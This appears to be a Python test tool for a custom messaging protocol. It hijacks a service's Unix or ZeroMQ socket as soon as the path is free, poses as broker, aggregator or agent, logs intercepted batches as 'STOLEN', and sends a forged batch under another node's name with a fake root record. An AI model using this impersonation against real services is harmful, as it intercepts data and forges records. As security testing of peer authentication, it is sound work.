"""impostor - takes the place of a program at its Unix socket, or goes past it.

    impostor.py take PATH...     binds them as soon as nobody is there, and answers
                                 as broker, aggregator or agent would
    impostor.py direct PATH...   sends a batch in the name of another node

Frames are built from proto/wire.md.  Says what it got on standard output.
SPDX-License-Identifier: MIT
"""
import contextlib
import os
import socket
import struct
import sys
import time

import msgpack
import zmq

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "../flow"))
from peer import ACK, BATCH, HELLO, WELCOME, crc32c  # noqa: E402

PUT, CREDIT = 12, 524288


def frame(kind, header, body=b""):
    rest = msgpack.packb(header, use_bin_type=True) + body
    fixed = struct.pack("<4sBBHI", b"PSCP", 2, kind, 0, len(rest))
    return fixed + struct.pack("<I", crc32c(fixed + rest)) + rest


def unframe(data):
    unpacker = msgpack.Unpacker(raw=True, strict_map_key=False)
    unpacker.feed(data[16:])
    return data[5], unpacker.unpack()


def header_of(asked, expect=0):
    return [asked[0].decode(), asked[1].decode(), asked[2], asked[3], 0, 0, asked[6], 0, 0, 0, 0, expect,
            0x123456789, CREDIT, 0, 0, 0, 0, ""]


def answer(data):
    kind, asked = unframe(data)
    if kind == HELLO:
        return frame(WELCOME, header_of(asked, asked[3]))
    if kind in (BATCH, PUT):
        print("STOLEN", data[-60:], flush=True)
        return frame(ACK, header_of(asked))
    return None


def listen(path):
    if path.endswith(".sock"):
        s = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET)
        s.bind(path)
        s.listen()
        s.setblocking(False)
    else:
        s = zmq.Context.instance().socket(zmq.ROUTER)
        s.bind("ipc://" + path)
    os.chmod(path, 0o666)
    print("bound", path, flush=True)
    return s


def serve(s, clients):
    if isinstance(s, zmq.Socket):
        while s.poll(0):
            parts = s.recv_multipart()
            reply = answer(parts[-1])
            if reply:
                s.send_multipart(parts[:-1] + [reply])
        return
    with contextlib.suppress(BlockingIOError):
        clients.append(s.accept()[0])
    for client in clients:
        with contextlib.suppress(BlockingIOError, OSError):
            data = client.recv(1 << 17, socket.MSG_DONTWAIT)
            reply = answer(data) if data else None
            if reply:
                client.send(reply)


def take(paths):
    taken, clients = {}, []
    print("waiting", flush=True)
    while True:
        for path in paths:
            if path in taken:
                serve(taken[path], clients)
            elif not os.path.exists(path):
                with contextlib.suppress(zmq.ZMQError, OSError):
                    taken[path] = listen(path)
        time.sleep(0.0005)


def direct(paths):
    body = msgpack.packb([1, time.time_ns(), "sudo", "root-did-it", {"user": "root"}, os.urandom(16)], use_bin_type=True)
    header = ["a$b", "another-node", os.urandom(16), 1, 1, 0, time.time_ns(), len(body)] + [0] * 10 + [""]
    for path in paths:
        s = zmq.Context.instance().socket(zmq.DEALER)
        s.linger = 0
        s.connect("ipc://" + path)
        s.send(frame(BATCH, header, body))
        print(path, unframe(s.recv())[0] if s.poll(2000) else "no answer", flush=True)


{"take": take, "direct": direct}[sys.argv[1]](sys.argv[2:])
